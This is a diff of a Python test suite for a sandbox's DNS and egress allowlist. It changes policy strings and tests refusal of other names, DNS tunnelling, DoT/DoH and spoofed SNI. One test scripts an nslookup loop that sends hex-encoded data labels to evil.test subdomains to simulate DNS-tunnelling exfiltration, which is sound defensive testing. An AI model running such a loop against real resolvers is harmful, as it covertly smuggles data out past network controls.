@@ -40,7 +40,7 @@ async def lookup(env: Env, sid: str, name: str, server: str = "") -> str:
 
 async def test_allowed_name_resolves_and_is_reachable_only_as_allowed(
         env: Env, dns: Resolver) -> None:
-    sid = await env.create(policy("name=allowed.test:80/tcp"))
+    sid = await env.create(policy("allowed.test:80/tcp"))
     assert (await env.sh(sid, "cat /etc/resolv.conf")).startswith("nameserver 10.213.255.254")
     out = await lookup(env, sid, "allowed.test")
     assert f"Address: {ALLOWED}" in out and "rc=0" in out, out
@@ -52,7 +52,7 @@ async def test_allowed_name_resolves_and_is_reachable_only_as_allowed(
 
 async def test_other_names_and_other_resolvers_are_refused_and_never_forwarded(
         env: Env, dns: Resolver) -> None:
-    sid = await env.create(policy("name=allowed.test:80/tcp"))
+    sid = await env.create(policy("allowed.test:80/tcp"))
     for server in ("", DNS_UPSTREAM, "198.51.100.7"):
         out = await lookup(env, sid, "sibling.test", server)
         assert SIBLING not in out and "rc=1" in out, (server, out)
@@ -67,7 +67,7 @@ async def test_other_names_and_other_resolvers_are_refused_and_never_forwarded(
 
 
 async def test_dns_tunnelling_is_refused_or_capped(env: Env, dns: Resolver) -> None:
-    sid = await env.create(policy("name=allowed.test:80/tcp", "name=*.wild.test:443/tcp"))
+    sid = await env.create(policy("allowed.test:80/tcp", "*.wild.test:443/tcp"))
     label = "6578666" * 8  # 56 hex chars: a label of data
     await env.sh(sid, "for i in $(seq 1 20); do nslookup -timeout=1 "
                  f"{label}.$i.evil.test >/dev/null 2>&1; "
@@ -83,7 +83,7 @@ async def test_dns_tunnelling_is_refused_or_capped(env: Env, dns: Resolver) -> N
 
 
 async def test_dot_doh_and_spoofed_sni_go_nowhere(env: Env, dns: Resolver) -> None:
-    sid = await env.create(policy("name=allowed.test:443/tcp"))
+    sid = await env.create(policy("allowed.test:443/tcp"))
     await lookup(env, sid, "allowed.test")
     for port in ("853", "443"):
         out = await env.tool(sid, "tcp", DNS_UPSTREAM, port, "dot-or-doh")
